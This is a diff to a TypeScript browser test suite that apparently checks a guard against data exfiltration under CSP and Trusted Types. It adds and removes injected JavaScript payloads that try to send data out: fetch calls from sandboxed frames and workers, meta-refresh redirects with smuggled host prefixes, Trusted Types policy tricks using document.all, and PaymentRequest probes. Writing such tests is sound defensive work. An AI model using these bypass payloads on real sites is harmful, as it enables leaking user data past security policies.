@@ -2,7 +2,7 @@
 import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type Attacker, attackedSite, newAttacker, openPage } from '../support/attacks.ts';
-import { launchChromium } from '../support/browsers.ts';
+import { launchChromium, launchWholeChromium } from '../support/browsers.ts';
 import type { TestSite } from '../support/site.ts';
 
 /** Each way is shown to send without a guard. */
@@ -67,14 +67,14 @@ const WAYS: Record<string, string> = {
   'an image whose XLink has another prefix': `const text = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">' +
       '<image width="9" height="9" x:href="' + sent + '"/></svg>';
     document.body.append(new DOMParser().parseFromString(text, 'image/svg+xml').documentElement);`,
-  'a sandboxed frame whose policy lets the guard not in': `const frame = make('iframe', { sandbox: 'allow-scripts', csp: "script-src 'unsafe-inline'" });
-    frame.srcdoc = '<script>fetch("' + sent + '", { mode: "no-cors" })</' + 'script>'; document.body.append(frame);`,
   "a worker of the page's own text, with a tab in its address": `
     const text = URL.createObjectURL(new Blob(['fetch("' + sent + '")'])); try { new Worker(text.replace('b', 'b\\t')); } catch {}`,
   "a shared worker of the page's own text, after a control letter": `
     const text = 'data:text/javascript,fetch("' + sent + '")'; try { new SharedWorker('\\u0001' + text); } catch {}`,
   'a refresh with a quote in a name before its host': `const own = location.host + "'@";
     put('meta', { httpEquiv: 'refresh', content: '0;url=' + sent.replace('//', '//' + own) });`,
+  'a refresh with a quote in a name before its host, in quotes': `
+    put('meta', { httpEquiv: 'refresh', content: "0;url='" + sent.replace('//', '//' + location.host + "'@") + "'" });`,
   ...Object.fromEntries(
     ['thead', 'tbody', 'tfoot', 'colgroup', 'col'].map((tag) => [
       `the background of a ${tag}`,
@@ -97,6 +97,11 @@ const TYPED: Record<string, readonly [by: string, code: string]> = {
     `'<script>fetch("' + sent + '", { mode: "no-cors" })</' + 'script>'`,
     `const frame = make('iframe', { srcdoc: 'x' }); frame.sandbox = 'allow-scripts'; document.body.append(frame);`,
   ],
+};
+/** The same by `document.all`, which says of itself that it is nothing. */
+const AS_NOTHING: Record<string, string> = {
+  'as a whole': 'HTMLAllCollection.prototype.createHTML = become; trustedTypes.createPolicy("default", document.all);',
+  'as its answer': `document.all.toString = become; trustedTypes.createPolicy('default', { createHTML: () => document.all });`,
 };
 const typed = (by: string, code: string): string => `
   document.head.append(make('meta', { httpEquiv: 'Content-Security-Policy', content: "require-trusted-types-for 'script'" }));
@@ -272,15 +277,39 @@ describe('nothing is sent', () => {
   it('by an object that says two things', async () => {
     await expectNothingSent(TWICE);
   });
+
+  it.each(Object.keys(AS_NOTHING))('by a policy of the page that looks like none, %s', async (name) => {
+    const code = typed(...(TYPED.markup as [string, string])).replace(
+      /trustedTypes.createPolicy.*/,
+      AS_NOTHING[name] as string,
+    );
+    await expectSent(code);
+    await attacker.open('/');
+    await attacker.run(`try { ${code} } catch {} await wait(150);`);
+    expect(await attacker.harm()).toEqual([]);
+  });
+});
+
+it('a policy of the page may say an address in another way', async () => {
+  const code = `${typed('new URL(text, location).href', `const script = put('script', { src: '/own' });`)} return new URL(script.src).pathname;`;
+  expect(await attacker.harmOn('/', code)).toEqual(['"/own"']);
 });
 
 it('no way to pay is asked for at an address that is refused', async () => {
-  // A whole browser asks there; the engine alone lacks what asks.
-  const code = `const total = { label: 'x', amount: { currency: 'EUR', value: '1' } };
-    const ask = (supportedMethods) => { try { return !!new PaymentRequest([{ supportedMethods }], { total }); } catch { return false; } };
-    return [ask('/pay'), ask('basic-card'), ask(sent)].join();`;
-  expect(await attacker.harmOn('/bare', code)).toEqual(['"false,true,true"']);
-  expect(await attacker.harmOn('/', code)).toEqual(['"false,true,false"']);
+  // The engine alone lacks what asks.
+  const whole = await launchWholeChromium();
+  const buyer = await newAttacker(whole, site);
+  const code = (
+    ...methods: readonly string[]
+  ): string => `const total = { label: 'x', amount: { currency: 'EUR', value: '1' } };
+    const methods = [${methods.join()}].map((supportedMethods) => ({ supportedMethods }));
+    try { await new PaymentRequest(methods, { total }).canMakePayment(); } catch (error) { return error.name; }`;
+  await buyer.open('/bare');
+  await buyer.run(code('sent'));
+  await expect.poll(() => buyer.harm(), { interval: 10 }).not.toEqual([]);
+  await expectNothingSent(code('sent', 'sent + 2', '"basic-card"'), buyer);
+  expect(await buyer.harmOn('/', code('"/pay"'))).toEqual(['"RangeError"']);
+  await whole.close();
 });
 
 describe('a peer connection gets no server that is not allowed', () => {
